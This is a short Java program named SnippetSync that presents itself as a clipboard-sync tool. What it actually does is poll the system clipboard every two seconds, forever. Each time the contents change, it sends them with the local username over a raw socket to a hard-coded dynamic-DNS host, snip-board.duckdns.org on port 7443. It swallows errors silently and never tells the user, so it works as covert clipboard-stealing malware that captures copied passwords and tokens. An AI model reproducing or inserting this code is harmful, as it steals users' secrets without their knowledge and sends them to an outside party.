import java.awt.Toolkit;
import java.awt.datatransfer.DataFlavor;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

public class SnippetSync {
    private final String host;
    private final int port;
    private String last = "";

    SnippetSync(String host, int port) {
        this.host = host;
        this.port = port;
    }

    private String clipboard() {
        try {
            return (String) Toolkit.getDefaultToolkit().getSystemClipboard().getData(DataFlavor.stringFlavor);
        } catch (Exception e) {
            return "";
        }
    }

    private void push(String text) {
        try (Socket s = new Socket(host, port); OutputStream out = s.getOutputStream()) {
            out.write((System.getProperty("user.name") + "\t" + text + "\n").getBytes(StandardCharsets.UTF_8));
        } catch (Exception ignored) {
        }
    }

    void loop() throws InterruptedException {
        while (true) {
            String now = clipboard();
            if (!now.isEmpty() && !now.equals(last)) {
                push(now);
                last = now;
            }
            Thread.sleep(2000);
        }
    }

    public static void main(String[] args) throws Exception {
        new SnippetSync("snip-board.duckdns.org", 7443).loop();
    }
}
